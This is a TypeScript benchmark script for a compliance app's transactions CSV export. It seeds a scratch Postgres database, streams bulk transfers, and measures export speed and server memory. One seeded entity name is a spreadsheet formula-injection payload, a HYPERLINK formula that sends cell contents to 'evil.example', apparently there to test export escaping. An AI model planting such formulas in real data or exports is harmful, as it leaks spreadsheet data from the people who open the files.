// npm run bench:export [-- --rows 1000000 --batch 5000 --keep --app-dir DIR --port 3542 --identity --in-process]
// Creates a scratch database on the local Postgres, loads `rows` transfers with COPY (streamed
// from a generator), then exports them as the transactions CSV through the HTTP route of a
// running `next start` (the app built in --app-dir, default this checkout), signed in as a
// compliance officer created through the app's own user code: GET /api/exports/transactions
// ?range=all, the body read to the end. Prints rows/s and the server process's peak RSS (VmHWM of
// next-server from /proc, no heap cap); exits 1 when a target is missed. --in-process runs the
// earlier measurement instead (the export path in a child process with a capped old space).
import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import os from "node:os";
import { Writable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { fileURLToPath } from "node:url";
import { parseArgs } from "node:util";
import { z } from "zod";
import { sql } from "drizzle-orm";
import { openDb } from "@/db/client";
import { migrateDb } from "@/db/migrate";
import { createTestDatabase } from "@/db/testing/test-db";
import { exportBenchFlagsSchema } from "@/lib/validators/exports";
import { csvExportStream } from "./csv";
import { newExportId } from "./export-id";
import { startAuditedExport } from "./run-export";
import { cpuMsOf, ensureBenchUser, memoryOf, signIn, startNext } from "@/lib/scale/http-bench";
import { transactionsTable } from "./tables";
import { copyBulkTransfers, walletAddress } from "./testing/bulk-transfers";

const CHAIN_ID = 99_301;
const WALLETS = 50_000;
const TARGET_ROWS_PER_S = 100_000;
const TARGET_RSS_MIB = 256;
const MIB = 1024 * 1024;

async function seed(db: Awaited<ReturnType<typeof openDb>>["db"]): Promise<void> {
  await db.execute(sql`insert into chains (chain_id, name, token_address, start_block, confirmations)
    values (${CHAIN_ID}, 'Bench chain', '0x8d0d000ee44948fc98c9b98a4fa4921476f08b0d', 1, 0)`);
  await db.execute(sql`insert into entities (name, kind, country)
    select case when g = 1 then '=HYPERLINK("http://evil.example/?"&A1,"open")' else 'Bench entity ' || g end,
      'exchange', (array['AE','SA','GB','PK','US','DE'])[1 + g % 6]
    from generate_series(1, 60) g`);
  // A third of the wallets attributed, every wallet labelled: the export's joins do real work.
  const list = `{${Array.from({ length: WALLETS }, (_, i) => walletAddress(i)).join(",")}}`;
  await db.execute(sql`insert into addresses (chain_id, address, entity_id, label)
    select ${CHAIN_ID}, a, case when i % 3 = 0 then 1 + i % 60 end, 'wallet ' || i
    from unnest(${list}::text[]) with ordinality u(a, i)`);
}

/** Samples RSS every 10 ms while `run` is in flight; returns its peak in bytes. */
async function withPeakRss<T>(run: () => Promise<T>): Promise<{ value: T; peak: number }> {
  let peak = process.memoryUsage.rss();
  const timer = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage.rss());
  }, 10);
  try {
    const value = await run();
    return { value, peak: Math.max(peak, process.memoryUsage.rss()) };
  } finally {
    clearInterval(timer);
  }
}

type ExportFigures = {
  rows: number;
  bytes: number;
  sha256: string;
  ms: number;
  cpuMs: number;
  peakRss: number;
  maxRss: number;
};

/** Child process: export every transfer of the database at `url`, print the figures as JSON. */
async function exportOnly(url: string, batch: number): Promise<void> {
  const handle = await openDb({ url, poolSize: 2 });
  try {
    const t = performance.now();
    const cpu = process.cpuUsage();
    const { value: outcome, peak } = await withPeakRss(async () => {
      const startedAt = new Date();
      const exportId = newExportId();
      const table = transactionsTable(handle.db, { filter: {}, asOf: startedAt, batchSize: batch });
      const started = startAuditedExport(
        handle.db,
        {
          exportId,
          kind: "transactions",
          format: "csv",
          params: { filter: {} },
          actor: { id: "bench", email: "bench@local", role: "compliance_officer" },
          startedAt,
        },
        csvExportStream(table, { exportId }),
      );
      await pipeline(started.stream, new Writable({ write: (_chunk, _enc, cb) => cb() }));
      return started.done;
    });
    const used = process.cpuUsage(cpu);
    const figures: ExportFigures = {
      rows: outcome.rowCount,
      bytes: outcome.bytes,
      sha256: outcome.sha256,
      ms: performance.now() - t,
      cpuMs: (used.user + used.system) / 1000,
      peakRss: peak,
      maxRss: process.resourceUsage().maxRSS * 1024,
    };
    console.log(JSON.stringify(figures));
  } finally {
    await handle.close();
  }
}

/**
 * The export runs in a fresh process, as it would in the web server: the loader's garbage in
 * this one would otherwise count towards the export's peak RSS. Its old space is capped: the
 * export's live heap is a batch (~35 MiB heapUsed at peak), but an uncapped V8 lets garbage pile
 * up before collecting, and RSS then floats between ~185 and ~285 MiB from run to run. The cap
 * makes it collect instead; were the live set larger than the cap, the child would die of OOM,
 * so a passing run also proves the bound.
 */
const CHILD_OLD_SPACE_MIB = 128;

const httpFlagsSchema = z.object({
  appDir: z.string().min(1),
  port: z.coerce.number().int().min(1024).max(65535),
  inProcess: z.boolean(),
  identity: z.boolean(),
});

const BENCH_EMAIL = "bench-export@bench.local";
const BENCH_PASSWORD = "bench-export-password-not-secret";

/**
 * Through the route, as a compliance officer would download it: `next start` on the scratch
 * database (no heap cap), sign in, one GET with the body read to the end (rows = lines − header).
 * `peakRss` is the server's VmHWM before the export, `maxRss` its VmHWM after it.
 */
async function runExportOverHttp(
  url: string,
  appDir: string,
  port: number,
  identity: boolean,
): Promise<ExportFigures & { encoding: string }> {
  await ensureBenchUser(url, { email: BENCH_EMAIL, password: BENCH_PASSWORD, role: "compliance_officer" });
  const server = await startNext({
    appDir,
    port,
    env: {
      DATABASE_URL: url,
      BETTER_AUTH_URL: `http://127.0.0.1:${port}`,
      BETTER_AUTH_SECRET: process.env.BETTER_AUTH_SECRET ?? "bench-export-secret-0123456789abcdef0123456789",
      LOG_LEVEL: "warn",
    },
  });
  try {
    const cookie = await signIn(server.baseUrl, BENCH_EMAIL, BENCH_PASSWORD);
    const before = memoryOf(server.pid);
    const cpu0 = cpuMsOf(server.pid);
    const t = performance.now();
    const res = await fetch(`${server.baseUrl}/api/exports/transactions?range=all&format=csv`, {
      // A browser asks for gzip, and next start's compression (level 6) then runs over the whole
      // file; behind a reverse proxy that compresses, the app sends it as is (--identity).
      headers: { cookie, "accept-encoding": identity ? "identity" : "gzip, deflate" },
    });
    const encoding = res.headers.get("content-encoding") ?? "identity";
    if (res.status !== 200 || !res.body) throw new Error(`export failed: ${res.status} ${await res.text()}`);
    let bytes = 0;
    let lines = 0;
    const hash = createHash("sha256");
    for await (const chunk of res.body as AsyncIterable<Uint8Array>) {
      bytes += chunk.byteLength;
      hash.update(chunk);
      for (let i = chunk.indexOf(10); i !== -1; i = chunk.indexOf(10, i + 1)) lines++;
    }
    const ms = performance.now() - t;
    const after = memoryOf(server.pid);
    return {
      rows: lines - 1,
      bytes,
      sha256: hash.digest("hex"),
      ms,
      cpuMs: cpuMsOf(server.pid) - cpu0,
      encoding,
      peakRss: before.hwm,
      maxRss: after.hwm,
    };
  } finally {
    await server.stop();
  }
}

function runExportChild(url: string, batch: number): Promise<ExportFigures> {
  const args = [
    ...process.execArgv,
    `--max-old-space-size=${CHILD_OLD_SPACE_MIB}`,
    fileURLToPath(import.meta.url),
    "--export-url",
    url,
    "--batch",
    String(batch),
  ];
  return new Promise((resolve, reject) => {
    execFile(process.execPath, args, { maxBuffer: 1024 * 1024 }, (err, stdout, stderr) => {
      if (err) return reject(new Error(`export child failed: ${stderr || err.message}`));
      const last = stdout.trim().split("\n").pop() ?? "";
      resolve(JSON.parse(last) as ExportFigures);
    });
  });
}

async function main(): Promise<number> {
  const { values } = parseArgs({
    options: {
      rows: { type: "string" },
      batch: { type: "string" },
      keep: { type: "boolean" },
      "export-url": { type: "string" },
      "app-dir": { type: "string", default: process.cwd() },
      port: { type: "string", default: "3542" },
      "in-process": { type: "boolean", default: false },
      identity: { type: "boolean", default: false },
    },
  });
  const {
    "export-url": exportUrl,
    "app-dir": appDir,
    port,
    "in-process": inProcess,
    identity,
    ...rest
  } = values;
  const flags = exportBenchFlagsSchema.parse(rest);
  const http = httpFlagsSchema.parse({ appDir, port, inProcess, identity });
  if (exportUrl) {
    await exportOnly(exportUrl, flags.batch);
    return 0;
  }
  const database = await createTestDatabase("usd1_bench_export");
  const handle = await openDb({ url: database.url, poolSize: 2 });
  try {
    await migrateDb(handle);
    await seed(handle.db);
    const t = performance.now();
    const client = await handle.pool!.connect();
    try {
      await copyBulkTransfers(client, {
        chainId: CHAIN_ID,
        count: flags.rows,
        wallets: WALLETS,
        t0: 1_735_689_600,
      });
      await client.query("analyze");
    } finally {
      client.release();
    }
    console.log(
      `loaded ${flags.rows.toLocaleString("en-US")} transfers with COPY in ${Math.round(performance.now() - t)} ms`,
    );

    const f = http.inProcess
      ? await runExportChild(database.url, flags.batch)
      : await runExportOverHttp(database.url, http.appDir, http.port, http.identity);
    const rate = Math.round((f.rows * 1000) / f.ms);
    const peakMiB = f.peakRss / MIB;
    const maxMiB = f.maxRss / MIB;
    console.log(
      `exported ${f.rows.toLocaleString("en-US")} rows (${(f.bytes / MIB).toFixed(1)} MiB CSV, ` +
        `sha256 ${f.sha256.slice(0, 16)}…) in ${Math.round(f.ms)} ms (CPU ${Math.round(f.cpuMs)} ms), batch ${flags.batch}` +
        ("encoding" in f ? `, content-encoding ${f.encoding}` : ""),
    );
    const perCpuSecond = Math.round((f.rows * 1000) / f.cpuMs);
    console.log(
      `rows/s: ${rate.toLocaleString("en-US")} (target ≥ ${TARGET_ROWS_PER_S.toLocaleString("en-US")}); ` +
        `rows per CPU-second of the exporting process: ${perCpuSecond.toLocaleString("en-US")}; load average ${os.loadavg()[0]!.toFixed(1)}`,
    );
    console.log(
      http.inProcess
        ? `peak RSS: ${Math.max(peakMiB, maxMiB).toFixed(1)} MiB (sampled ${peakMiB.toFixed(1)}, maxRSS ${maxMiB.toFixed(1)}; ` +
            `target < ${TARGET_RSS_MIB} MiB)`
        : `next-server peak RSS (VmHWM): ${maxMiB.toFixed(1)} MiB, of which ${(f.peakRss / MIB).toFixed(1)} MiB before the export ` +
            `(started, signed in, one request served); target < ${TARGET_RSS_MIB} MiB`,
    );
    const ok =
      f.rows === flags.rows && rate >= TARGET_ROWS_PER_S && Math.max(peakMiB, maxMiB) < TARGET_RSS_MIB;
    return ok ? 0 : 1;
  } finally {
    await handle.close();
    if (flags.keep) console.log(`kept database ${database.name}`);
    else await database.drop();
  }
}

main().then(
  (code) => process.exit(code),
  (err: unknown) => {
    console.error(err);
    process.exit(1);
  },
);
